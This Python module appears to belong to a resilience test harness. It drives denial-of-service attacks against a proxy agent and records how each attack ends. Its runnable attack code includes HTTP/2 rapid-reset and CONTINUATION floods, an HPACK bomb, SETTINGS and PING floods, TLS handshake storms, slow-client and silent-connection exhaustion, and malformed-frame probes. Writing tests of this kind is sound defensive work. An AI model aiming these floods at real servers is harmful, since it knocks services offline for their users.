"""hostile_attacks: what is done to an agent. Part of hostile.py.

An attack takes a Target and returns a list of Outcome. Each ends by itself in bounded time, and says what it wants to
have seen; what it did to the agent and to others is measured by hostile.py.
"""

import dataclasses
import random
import socket
import struct
import threading
import time

from hostile_peer import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, PUSH_PROMISE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, ERRORS, PREFACE, Peer, connect, frame, literal,
)

CALM = ERRORS.index("ENHANCE_YOUR_CALM")
REFUSED = ERRORS.index("REFUSED_STREAM")
CANCEL = struct.pack(">I", 8)
WIDE_OPEN = struct.pack(">HI", 4, 0x7FFFFFFF)  # INITIAL_WINDOW_SIZE
BATCH = 20  # frames per TLS record, about


@dataclasses.dataclass
class Outcome:
    what: str
    how: str  # it ended
    frames: int
    seconds: float
    ok: bool


def outcome(what, peer, ok):
    seconds = (peer.ended_at or time.monotonic()) - peer.began
    return Outcome(what, peer.story(), peer.frames, seconds, ok)


# ---- silence and half things: all at once, each with its deadline ----


def silent_end(sock, began, seconds):
    """Waits for the other side to end it. How, and after how long."""
    sock.settimeout(max(0.1, began + seconds - time.monotonic()))
    try:
        while data := sock.recv(4096):
            del data
        how = "EOF"
    except TimeoutError:
        how = "still open"
    except OSError as error:
        how = type(error).__name__
    return how, time.monotonic() - began


def silent_tcp(target):
    with target.dial() as sock:
        return silent_end(sock, time.monotonic(), 15)


def half_hello(target):
    """A byte at a time, never the last; the clock runs from the connection."""
    with target.dial() as sock:
        began = time.monotonic()
        for byte in target.client_hello()[:-1]:
            try:
                sock.sendall(bytes([byte]))
                sock.settimeout(0.2)
                if not sock.recv(1):
                    return "EOF", time.monotonic() - began
            except TimeoutError:
                pass
            except OSError as error:
                return type(error).__name__, time.monotonic() - began
            if time.monotonic() - began > 15:
                break
        return silent_end(sock, began, 15)


def wait_for(peer):
    peer.wait_end(15)
    peer.close()
    return peer.story(), (peer.ended_at or time.monotonic()) - peer.began


def after_tls(target):
    return wait_for(Peer(target))


def after_preface(target):
    peer = Peer(target)
    peer.greet()
    return wait_for(peer)


def dribbled_preface(target):
    peer = Peer(target)
    for byte in PREFACE * 3:
        peer.send(bytes([byte]), 0)
        peer.hear(0.25)
        if peer.ended:
            break
    return wait_for(peer)


def dribbled_headers(target):
    peer = Peer(target)
    peer.greet()
    peer.send(frame(HEADERS, 0, 1, connect(target.authority)))
    for byte in frame(CONTINUATION, END_HEADERS, 1, literal(b"x", b"y" * 120)):
        peer.send(bytes([byte]), 0)
        peer.hear(0.15)
        if peer.ended:
            break
    return wait_for(peer)


def slow_things(target):
    things = (silent_tcp, half_hello, after_tls, after_preface, dribbled_preface, dribbled_headers)
    outcomes = []

    def run(thing):
        how, seconds = thing(target)
        # The longest deadline is TLS's, 10 s; the rest is for a machine that is busy.
        outcomes.append(Outcome(thing.__name__.replace("_", " "), how, 0, seconds, "open" not in how and seconds < 12))

    threads = [threading.Thread(target=run, args=(thing,)) for thing in things]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sorted(outcomes, key=lambda o: o.what)


def at_once(run, count):
    """How long it took."""
    began = time.monotonic()
    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return time.monotonic() - began


def handshake_storm(target):
    """Whole ones, as fast as it goes, each given up when it is done."""
    done, failed = [], []

    def run():
        for _ in range(60):
            try:
                Peer(target).close()
                done.append(1)
            except OSError as error:
                failed.append(error)

    seconds = at_once(run, 12)
    how = f"{len(done)} handshakes ({len(done) / seconds:.0f}/s), {len(failed)} failed"
    return [Outcome("TLS handshake storm", how, 0, seconds, not failed and seconds < 30)]


def hello_storm(target):
    """The same ClientHello again and again: next to nothing for the attacker, a signature for the victim."""
    hello, counts = target.client_hello(), []

    def run():
        answered, until = 0, time.monotonic() + 3
        while time.monotonic() < until:
            socks = []
            try:
                for _ in range(25):
                    socks.append(target.dial())
                    socks[-1].sendall(hello)
                for sock in socks:
                    sock.settimeout(5)
                    answered += bool(sock.recv(4096))
            except OSError:
                pass
            for sock in socks:
                sock.close()
        counts.append(answered)

    seconds = at_once(run, 4)
    how = f"{sum(counts)} answered ({sum(counts) / seconds:.0f}/s)"
    return [Outcome("ClientHello storm", how, 0, seconds, sum(counts) > 0)]


def silent_crowd(target):
    """1500 connections that say nothing, or half of something: most are pushed out by their own kind."""
    hello, socks, began = target.client_hello()[:-1], [], time.monotonic()
    for n in range(1500):
        socks.append(target.dial())
        if n % 2:
            socks[-1].sendall(hello)
    early = 0
    for sock in socks:
        sock.setblocking(False)
        try:
            early += sock.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            early += 1
    ends = []
    for sock in socks:
        sock.setblocking(True)
        ends.append(silent_end(sock, began, 15))
        sock.close()
    still = sum("open" in how for how, _ in ends)
    longest = max(seconds for _, seconds in ends)
    how = f"{early} were pushed out at once, {still} still open"
    return [Outcome("a silent crowd", how, 0, longest, early >= 1500 - 4 * 256 and still == 0 and longest < 14)]


# ---- floods: unit(n) is what is sent the n-th time, and how many frames it is ----


def flood(what, unit, units, first=b"", wanted=CALM):
    def attack(target):
        peer = Peer(target)
        peer.greet()
        if first:
            peer.send(first if isinstance(first, bytes) else first(target))
        batch, frames = b"", 0
        for n in range(units):
            data, count = unit(target, n)
            batch, frames = batch + data, frames + count
            if frames >= BATCH or len(batch) > 16384:
                peer.send(batch, frames)
                peer.hear()
                batch, frames = b"", 0
            if peer.ended or peer.goaway is not None or time.monotonic() - peer.began > 10:
                break
        peer.wait_end(10)
        peer.close()
        return [outcome(what, peer, peer.goaway == wanted and peer.ended == "EOF")]

    return attack


def first_request(target):
    return target.request(1)


def ids(n):
    return 2 * n + 1


def rapid_reset(target, n):
    return target.request(ids(n)) + frame(RST_STREAM, 0, ids(n), CANCEL), 2


def made_you_reset(target, n):
    return target.request(ids(n)) + frame(WINDOW_UPDATE, 0, ids(n), b"\x7f\xff\xff\xff"), 2


def refused(target, n):
    """A request that is not for this pod: 400."""
    return frame(HEADERS, END_HEADERS, ids(n), connect("10.9.9.9:80")), 1


def refused_dead(target, n):
    """One for a port where nobody listens: dialled, then 503."""
    return frame(HEADERS, END_HEADERS, ids(n), connect(f"{target.address}:9")), 1


def stray_data(target, n):
    return (rapid_reset(target, 0)[0] if n == 0 else b"") + frame(DATA, 0, 1, b"x"), 1


def continuation(target, n):
    return frame(CONTINUATION if n else HEADERS, 0, 1, b""), 1


def hpack_bomb(target, n):
    """4000 bytes go into the table, and then each byte asks for all of them again."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"x" * 4000
    block = connect(target.authority) + entry + b"\xbe" * 12000
    return frame(HEADERS, 0, ids(n), block[:8000]) + frame(CONTINUATION, END_HEADERS, ids(n), block[8000:]), 2


def large_list(target, n):
    """80 KB, without a trick."""
    block = connect(target.authority) + literal(b"x", b"y" * 120) * 640
    pieces = [block[i : i + 16000] for i in range(0, len(block), 16000)]
    out = frame(HEADERS, 0, ids(n), pieces[0])
    for piece in pieces[1:-1]:
        out += frame(CONTINUATION, 0, ids(n), piece)
    return out + frame(CONTINUATION, END_HEADERS, ids(n), pieces[-1]), len(pieces)


FLOODS = {
    "rapid-reset": flood("rapid reset", rapid_reset, 3000),
    "made-you-reset": flood("resets by the victim's own hand", made_you_reset, 3000),
    "settings": flood("SETTINGS flood", lambda t, n: (frame(SETTINGS, 0, 0, WIDE_OPEN), 1), 5000),
    "ping": flood("PING flood", lambda t, n: (frame(PING, 0, 0, b"culvert!"), 1), 5000),
    "priority": flood("PRIORITY flood", lambda t, n: (frame(PRIORITY, 0, ids(n), b"\0\0\0\0\x10"), 1), 5000),
    "window-update": flood("WINDOW_UPDATE flood", lambda t, n: (frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), 1), 20000),
    "empty-data": flood("empty DATA flood", lambda t, n: (frame(DATA, 0, 1), 1), 5000, first_request),
    "stray-data": flood("DATA to a stream that is gone", stray_data, 100000),
    "empty-headers": flood("empty HEADERS flood", lambda t, n: (frame(HEADERS, END_HEADERS, ids(n)), 1), 5000),
    "continuation": flood("CONTINUATION flood", continuation, 5000),
    "hpack-bomb": flood("HPACK bomb", hpack_bomb, 300),
    "large-lists": flood("header lists of 80 KB", large_list, 2000),
    "refused": flood("requests that are refused", refused, 20000),
    "refused-dead": flood("requests for a dead app", refused_dead, 20000),
    "unknown": flood("unknown frames", lambda t, n: (frame(0xEE, 0, 0, b"anything"), 1), 5000),
}


# ---- the rest ----


def too_many_streams(target):
    """1100 at once, with 1000 granted and that acknowledged; the 1000 go on."""
    peer = Peer(target)
    peer.greet()
    peer.hear(1)
    peer.send(frame(SETTINGS, ACK, 0))
    for n in range(1100):
        peer.send(target.request(ids(n)))
    peer.hear_until(lambda: len(peer.answers) >= 1000 and peer.resets.get(REFUSED, 0) >= 100, 10)
    served = sum(answer == b"\x88" for answer in peer.answers.values())
    ok = served == 1000 and peer.resets == {REFUSED: 100} and not peer.ended
    result = outcome("1100 streams at once", peer, ok)
    result.how = f"{served} served, {result.how}"
    peer.close()
    return [result]


def come_and_go(target):
    """900 requests in one go, and away before the first is answered: most apps are not dialled yet."""
    peer = Peer(target)
    peer.greet()
    peer.send(b"".join(target.request(ids(n)) for n in range(900)), 900)
    result = outcome("900 streams that come and go", peer, peer.ended is None)
    result.how = "left by itself"
    peer.close()
    return [result]


def malformed(target):
    breaches = (
        ("a frame of 1 MiB", frame(DATA, 0, 1, b"x" * (1 << 20)), "FRAME_SIZE_ERROR"),
        ("PING of 7 bytes", frame(PING, 0, 0, b"1234567"), "FRAME_SIZE_ERROR"),
        ("SETTINGS of 5 bytes", frame(SETTINGS, 0, 0, b"12345"), "FRAME_SIZE_ERROR"),
        ("WINDOW_UPDATE of 0", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\0"), "PROTOCOL_ERROR"),
        ("a window above 2^31", frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff"), "FLOW_CONTROL_ERROR"),
        ("HEADERS on stream 0", frame(HEADERS, END_HEADERS, 0, connect("a:1")), "PROTOCOL_ERROR"),
        ("DATA on an idle stream", frame(DATA, 0, 9, b"x"), "PROTOCOL_ERROR"),
        ("RST_STREAM on an idle stream", frame(RST_STREAM, 0, 9, CANCEL), "PROTOCOL_ERROR"),
        ("an even stream", frame(HEADERS, END_HEADERS, 2, connect("a:1")), "PROTOCOL_ERROR"),
        ("PUSH_PROMISE", frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2"), "PROTOCOL_ERROR"),
        ("CONTINUATION alone", frame(CONTINUATION, END_HEADERS, 1, b""), "PROTOCOL_ERROR"),
        ("HPACK that is none", frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff"), "COMPRESSION_ERROR"),
        ("padding longer than its frame", target.request(1) + frame(DATA, 8, 1, b"\xff123"), "PROTOCOL_ERROR"),
        ("an answer to no SETTINGS", frame(SETTINGS, ACK, 0) * 3, "PROTOCOL_ERROR"),
        ("GOAWAY of 3 bytes", frame(GOAWAY, 0, 0, b"123"), "FRAME_SIZE_ERROR"),
    )
    outcomes = []
    for what, data, wanted in breaches:
        peer = Peer(target)
        peer.greet()
        peer.send(data)
        peer.wait_end(10)
        peer.close()
        # Above what fits into the kernel's buffers the answer may be overtaken by a reset.
        ok = peer.ended is not None and (peer.goaway == ERRORS.index(wanted) or len(data) > 1 << 16)
        outcomes.append(outcome(what, peer, ok))
    return outcomes


def never_reads(target):
    """50 streams ask for a large file each, and nobody reads any of it."""
    peer = Peer(target)
    peer.greet(WIDE_OPEN)
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535)))
    for n in range(50):
        peer.send(target.request(ids(n)))
        peer.send(frame(DATA, 0, ids(n), b"GET /big HTTP/1.0\r\n\r\n"))
    time.sleep(5)  # the attack itself: it stays, and does not read
    result = outcome("50 downloads that are not read", peer, True)
    result.how = "left by itself"
    peer.close()
    return [result]


def never_reads_until_ended(target):
    """It sends a sign of life every second, but it does not read."""
    peer = Peer(target)
    peer.greet(WIDE_OPEN)
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535)))
    peer.send(target.request(1))
    peer.send(frame(DATA, 0, 1, b"GET /big HTTP/1.0\r\n\r\n"))
    while peer.send(frame(PING, 0, 0, b"culvert!")) and time.monotonic() - peer.began < 60:
        time.sleep(0.5)
    result = outcome("lively, but never reads", peer, peer.ended is not None)
    peer.close()
    return [result]


def dribbles(target):
    """A slow client is no attack: a request in single bytes is answered."""
    peer = Peer(target)
    peer.greet()
    peer.send(target.request(1))
    for byte in b"GET / HTTP/1.0\r\nX-Slow: yes\r\n\r\n":
        peer.send(frame(DATA, 0, 1, bytes([byte])))
        peer.hear(0.05)
    peer.hear_until(lambda: peer.payload > 0, 5)
    ok = peer.answers.get(1) == b"\x88" and peer.payload > 0 and peer.goaway is None
    result = outcome("a client that dribbles", peer, ok)
    result.how = f"{peer.payload} bytes of answer"
    peer.close()
    return [result]


def garbage(target):
    bites = {
        "random bytes": b"\xff" + random.Random(7).randbytes(4096),
        "HTTP/1.1": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        "zeros": bytes(65536),
    }
    outcomes = []
    for port in (15001, 15006, 15008):
        for what, bite in bites.items():
            began = time.monotonic()
            try:
                with target.dial(port) as sock:
                    sock.sendall(bite)
                    how, seconds = silent_end(sock, began, 12)
            except OSError as error:
                how, seconds = type(error).__name__, time.monotonic() - began
            outcomes.append(Outcome(f"{what} on {port}", how, 0, seconds, how != "still open" and seconds < 10))
    return outcomes


def slow_admin(path):
    """More than the admin socket serves: silent, half a head, a byte at a time, an answer not read."""

    def attack(_target):
        began, socks = time.monotonic(), []
        for i in range(80):
            sock = socket.socket(socket.AF_UNIX)
            sock.connect(path)
            socks.append(sock)
            words = (b"", b"GET /config_dump HT", b"G", b"GET /config_dump HTTP/1.1\r\nHost: x\r\n\r\n")[i % 4]
            try:
                sock.sendall(words)
            except OSError:
                pass  # one too many: closed at once
        longest, ended = 0.0, 0
        for i, sock in enumerate(socks):
            while i % 4 == 2 and time.monotonic() - began < 3:
                try:
                    sock.sendall(b"x")
                except OSError:
                    break
                time.sleep(0.05)
            how, seconds = silent_end(sock, began, 12)
            sock.close()
            ended += how != "still open"
            longest = max(longest, seconds)
        how = f"{ended} of {len(socks)} ended"
        return [Outcome("slow admin clients", how, 0, longest, ended == len(socks) and longest < 12)]

    return attack


def attacks(admin_path):
    return FLOODS | {
        "slow": slow_things,
        "handshakes": handshake_storm,
        "hellos": hello_storm,
        "crowd": silent_crowd,
        "too-many-streams": too_many_streams,
        "come-and-go": come_and_go,
        "malformed": malformed,
        "never-reads": never_reads,
        "never-reads-until-ended": never_reads_until_ended,
        "dribbles": dribbles,
        "garbage": garbage,
        "slow-admin": slow_admin(admin_path),
    }
